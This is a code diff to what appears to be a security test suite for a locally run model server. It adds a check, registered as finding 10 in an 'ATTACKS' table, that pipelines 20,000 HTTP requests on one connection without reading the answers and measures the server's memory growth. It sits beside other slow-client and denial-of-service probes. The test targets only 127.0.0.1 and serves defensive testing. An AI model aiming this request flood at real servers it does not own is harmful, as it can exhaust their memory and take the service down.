@@ -1,4 +1,4 @@
-"""Findings of the server: 9, 17, 18, 19, 20, 29, 30, 31."""
+"""Findings of the server: 9, 10, 17, 18, 19, 20, 29, 30, 31."""
 
 from __future__ import annotations
 
@@ -9,7 +9,8 @@ import socket
 import subprocess
 import time
 from collections.abc import Iterator
-from contextlib import contextmanager
+from contextlib import contextmanager, suppress
+from pathlib import Path
 
 import numpy as np
 from onnx import TensorProto, helper
@@ -34,6 +35,11 @@ class _Server:
         found.settimeout(15)
         found.connect(("127.0.0.1", self.port))
         return found
+
+    def memory(self) -> int:
+        """Resident, in MB."""
+        text = Path(f"/proc/{self.process.pid}/status").read_text()
+        return next(int(row.split()[1]) >> 10 for row in text.splitlines() if row.startswith("VmRSS:"))
 
     def answer(self, request: bytes) -> bytes:
         """The status line of the answer."""
@@ -93,6 +99,26 @@ def dripping_body(box: Box) -> Outcome:
             except OSError:
                 return Outcome(False, f"closed after {time.monotonic() - start:.0f} s")
         return Outcome(True, "still open after 12 s")
+
+
+def unread_answers(box: Box) -> Outcome:
+    """20,000 requests of one connection whose answers are not read; the deadline is 3 s."""
+    with _serving(box, None, "--timeout", 3) as server, server.connect(4096) as client:
+        before = server.memory()
+        request = b"GET /openapi.json HTTP/1.1\r\n" + _HOST + b"\r\n"
+        client.settimeout(4)
+        sent = 0
+        with suppress(OSError):
+            for _ in range(200):
+                client.sendall(request * 100)
+                sent += 100
+        time.sleep(4)
+        more = server.memory() - before
+        with suppress(OSError):
+            client.setblocking(False)
+            client.send(b"x")
+            return Outcome(more > 30, f"{sent} sent, {more} MB more, still connected 4 s after the last")
+        return Outcome(more > 30, f"{sent} sent, {more} MB more, disconnected")
 
 
 def upgrade(box: Box) -> Outcome:
@@ -205,6 +231,7 @@ def log_lines(box: Box) -> Outcome:
 
 ATTACKS = {
     9: dripping_body,
+    10: unread_answers,
     17: upgrade,
     18: surrogate,
     19: vanished_clients,
